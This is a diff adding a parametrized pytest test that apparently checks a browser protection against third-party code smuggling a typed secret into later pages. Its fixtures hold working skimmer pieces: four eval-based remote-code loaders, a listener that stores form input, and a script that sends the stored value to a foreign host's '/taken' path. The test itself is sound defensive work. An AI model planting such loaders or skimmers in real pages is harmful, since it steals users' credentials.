@@ -615,6 +615,41 @@ def test_a_script_that_saw_a_secret_carries_it_to_no_later_page(
     assert [request.path for request in foreign.requests] == ["/menu.js"]
 
 
+# How code of another host comes into a page without a script that the browser fetches.
+LOADERS = {
+    "fetch": "fetch('{url}/lib').then(answer => answer.text()).then(eval)",
+    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.onload = () => eval(x.response); x.open('GET', '{url}/lib'); "
+    "x.send()",
+    "a redirect": "fetch('/lib').then(answer => answer.text()).then(eval)",
+    "events": "new EventSource('{url}/events').onmessage = event => eval(event.data)",
+}
+
+
+@pytest.mark.parametrize("loader", LOADERS)
+def test_code_that_a_page_loads_by_itself_carries_a_secret_to_no_later_page(
+    loader: str, sites: tuple[Site, Site], in_browser: Run
+) -> None:
+    own, foreign = sites
+    good_site(own)
+    listens = "addEventListener('input', event => { sessionStorage.kept = [...event.target.value].reverse().join('') })"
+    code = {"Access-Control-Allow-Origin": "*", "Content-Type": "text/javascript"}
+    foreign.answers["/lib"] = (200, code, listens)
+    foreign.answers["/events"] = (200, {**code, "Content-Type": "text/event-stream"}, f"data: {listens}\n\n")
+    foreign.answers["/late.js"] = (
+        200,
+        code,
+        f"const s = document.createElement('script'); s.src = '{foreign.url}/taken?' + sessionStorage.kept;"
+        "document.head.append(s)",
+    )
+    own.answers["/lib"] = (302, {"Location": f"{foreign.url}/lib"}, "")
+    own.answers["/"] = f"<script>{LOADERS[loader].format(url=foreign.url)}</script>" + FORM.format(
+        "method=post action=/login", BUTTON
+    )
+    own.answers["/home"] = f"<script src={foreign.url}/late.js></script>{HOME}"
+    assert in_browser(own).link.status == "linked"
+    assert {request.path for request in foreign.requests} <= {"/lib", "/events"} and foreign.requests
+
+
 @pytest.mark.parametrize("after", ["/login", "/"])
 def test_from_https_to_http_nobody_is_led(run: Run, after: str, monkeypatch: pytest.MonkeyPatch) -> None:
     """Neither before the sign-in nor after it, when a cookie of the session would go along in clear."""
